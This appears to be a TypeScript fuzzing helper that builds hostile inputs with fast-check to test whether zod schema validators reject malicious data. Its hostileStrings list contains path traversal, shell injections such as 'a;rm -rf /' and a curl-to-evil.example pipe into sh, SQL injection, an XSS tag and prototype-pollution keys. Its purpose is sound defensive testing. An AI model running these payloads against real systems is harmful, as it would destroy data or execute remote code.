import fc from 'fast-check'
import { isFreeText, jsonSchemaOf, shapedArbitrary, type JsonSchema } from './schema-arbitrary'
import type { z } from 'zod'

/** One generated input and whether the schema must refuse it whatever the field (false: only if invalid). */
export interface HostileCase {
  input: unknown
  mustReject: boolean
  what: string
}

/** Path traversal, shell metacharacters, option injection, control and look-alike characters. */
export const hostileStrings = [
  '../../etc/passwd',
  '..',
  '/etc/passwd',
  '..\\..\\windows\\system32',
  '%2e%2e%2fetc',
  'a;rm -rf /',
  '$(id)',
  '`id`',
  '${HOME}',
  'a && curl http://evil.example | sh',
  'a|sh',
  '--kubeconfig=/tmp/x',
  '-x',
  'a\nb',
  'a\u0000b',
  'x\u001b[31m',
  'A-Upper',
  'ñame',
  '\u202egnp.exe',
  ' lead',
  '*',
  '__proto__',
  "'; DROP TABLE x; --",
  '<script>alert(1)</script>',
  'x'.repeat(1100),
]

/** Nested arrays `depth` deep, built iteratively (a recursive builder would itself overflow). */
export function deepNest(depth: number): unknown {
  let v: unknown = 'leaf'
  for (let i = 0; i < depth; i++) v = i % 2 ? [v] : { a: v }
  return v
}

const HUGE = 'h'.repeat(1_100_000)
const forbiddenKeys = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'evil;id']

interface Site {
  path: string[]
  schema: JsonSchema
  kind: 'object' | 'record' | 'leaf'
}

function sitesOf(value: unknown, s: JsonSchema, path: string[] = []): Site[] {
  // A discriminated union: mutate inside the branch the value was generated from (its consts match).
  const union = s.oneOf ?? s.anyOf
  if (union && value && typeof value === 'object' && !Array.isArray(value)) {
    const fields = value as Record<string, unknown>
    const branch = union.find(
      (b) =>
        b.type === 'object' &&
        Object.entries(b.properties ?? {}).every(([k, p]) => p.const === undefined || fields[k] === p.const),
    )
    if (branch) return sitesOf(value, branch, path)
  }
  if (s.type === 'object' && value && typeof value === 'object' && !Array.isArray(value)) {
    const isRecord = s.propertyNames !== undefined
    const out: Site[] = [{ path, schema: s, kind: isRecord ? 'record' : 'object' }]
    for (const [k, v] of Object.entries(value)) {
      const child = isRecord ? s.additionalProperties : s.properties?.[k]
      if (child && typeof child === 'object') out.push(...sitesOf(v, child, [...path, k]))
    }
    return out
  }
  const out: Site[] = path.length ? [{ path, schema: s, kind: 'leaf' }] : []
  if (s.type === 'array' && Array.isArray(value) && s.items) {
    value.forEach((v, i) => out.push(...sitesOf(v, s.items!, [...path, String(i)])))
  }
  return out
}

/** Copies `root` with `path` set to `value`; keys are defined as own properties, so `__proto__` stays data. */
function setAt(root: unknown, path: string[], value: unknown, addKey?: string): unknown {
  const copy = structuredClone(root) as Record<string, unknown>
  let node: Record<string, unknown> = copy
  for (const k of path.slice(0, addKey ? undefined : -1)) node = node[k] as Record<string, unknown>
  const key = addKey ?? path.at(-1)!
  Object.defineProperty(node, key, { value, enumerable: true, writable: true, configurable: true })
  return copy
}

function wrongTypes(s: JsonSchema): unknown[] {
  const any = [null, {}, [], deepNest(2000)]
  if (s.type === 'string' || s.enum || s.anyOf || s.oneOf) return [...any, 42, true, ['x']]
  if (s.type === 'integer')
    return [...any, '1', true, 1.5, Infinity, (s.minimum ?? 0) - 1, (s.maximum ?? 0) + 1]
  if (s.type === 'number') return [...any, '1', true, Infinity, -Infinity]
  if (s.type === 'boolean') return [...any, 'true', 1]
  if (s.type === 'array') return [null, {}, 'x', 7]
  return ['x', 7, true, []]
}

/** Hostile variants of valid-shaped inputs for one schema, plus wholly wrong inputs. */
export function hostileArbitrary(schema: z.ZodType): fc.Arbitrary<HostileCase> {
  const js = jsonSchemaOf(schema)
  const topLevel = fc
    .constantFrom<unknown>(null, 42, 'text', true, [], [{}], deepNest(100_000), deepNest(3000), HUGE)
    .map((input) => ({ input, mustReject: true, what: 'top-level wrong type or nesting' }))
  const mutated = shapedArbitrary(js).chain((base) => {
    const sites = sitesOf(base, js)
    return fc.constantFrom(...sites).chain((site): fc.Arbitrary<HostileCase> => {
      if (site.kind !== 'leaf') {
        // A record's keys are free text (renames); a strict object's are not.
        return fc.constantFrom(...forbiddenKeys).map((k) => ({
          input: setAt(base, site.path, { polluted: true }, k),
          mustReject: site.kind === 'object',
          what: `extra key ${k} at ${site.path.join('.') || '(root)'}`,
        }))
      }
      const where = site.path.join('.')
      const typed = fc.constantFrom(...wrongTypes(site.schema)).map((v) => ({
        input: setAt(base, site.path, v),
        mustReject: true,
        what: `wrong type at ${where}`,
      }))
      const huge = fc.constant({
        input: setAt(base, site.path, HUGE),
        mustReject: true,
        what: `huge at ${where}`,
      })
      const stringy = site.schema.type === 'string' || site.schema.enum || site.schema.anyOf
      if (!stringy) return fc.oneof(typed, huge)
      const named = fc.constantFrom(...hostileStrings).map((v) => ({
        input: setAt(base, site.path, v),
        mustReject: !isFreeText(site.schema),
        what: `hostile string at ${where}`,
      }))
      const random = fc.string({ unit: 'binary', maxLength: 80 }).map((v) => ({
        input: setAt(base, site.path, v),
        mustReject: false,
        what: `random string at ${where}`,
      }))
      return fc.oneof(named, named, typed, huge, random)
    })
  })
  return fc.oneof({ arbitrary: topLevel, weight: 1 }, { arbitrary: mutated, weight: 6 })
}
